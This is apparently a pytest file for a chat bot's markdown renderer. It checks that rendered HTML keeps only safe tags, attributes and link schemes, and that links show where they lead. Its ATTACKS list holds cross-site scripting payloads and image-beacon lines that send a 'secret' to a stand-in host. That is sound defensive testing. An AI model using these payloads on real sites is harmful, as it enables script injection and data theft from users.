from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from bot.server.pages.markdown import TAGS, render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/?secret)",
    "![x][ref]\n\n[ref]: https://evil.example/?secret",
    '<https://evil.example/" onmouseover=alert(1)>',
    "[x](https://evil.example 'a\" onclick=\"alert(1)')",
    "`<img src=x onerror=alert(1)>`",
    "<iframe src=https://evil.example></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "[x](/sign-out)",
    "[x](//evil.example/a)",
]


def elements(rendered: str) -> list[LexborNode]:
    return list(LexborHTMLParser(f"<div id=root>{rendered}</div>").css("#root *"))


def assert_inert(rendered: str) -> None:
    for element in elements(rendered):
        assert element.tag in TAGS
        assert set(element.attributes) <= {"href", "target", "rel", "start"}
        if element.tag == "a":
            assert (element.attributes["href"] or "").startswith(("http://", "https://", "mailto:"))
            assert "noopener" in (element.attributes["rel"] or "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_inert(attack: str) -> None:
    assert_inert(render(f"before {attack} after"))
    assert_inert(render(attack))


@settings(deadline=None)
@given(st.text(st.sampled_from("<>\"'[](){}!`*_#|:/\\&;= \n-+.javscriptonhef123"), max_size=200))
def test_whatever_is_written_stays_inert(text: str) -> None:
    assert_inert(render(text))


def test_a_link_shows_where_it_leads() -> None:
    assert "payroll</a> (evil.example)" in render("[payroll](https://evil.example/payroll.example.com)")
    assert "</a> (ada@example.com)" in render("[write](mailto:ada@example.com)")


def test_a_bare_address_is_not_named_twice() -> None:
    assert render("<https://a.example/x>").count("a.example") == 2


def test_a_link_whose_text_is_its_address_is_not_named_twice() -> None:
    assert "(slack.com)" not in render("[https://slack.com/](https://slack.com/)")
    assert "(evil.example)" in render("[https://slack.com/](https://evil.example/)")
    assert "(evil.example)" in render("[https://evil.example/a](https://evil.example/b)")


def test_an_image_becomes_its_description() -> None:
    assert render("![a chart](https://evil.example/x.png)").strip() == "<p>[image: a chart]</p>"


def test_what_answers_use_is_kept() -> None:
    text = "# Title\n\n**bold** and `code`\n\n1. one\n2. two\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    tags = {element.tag for element in elements(render(text))}
    assert {"h3", "strong", "code", "ol", "li", "blockquote", "table", "td"} <= tags
    assert "h1" not in tags
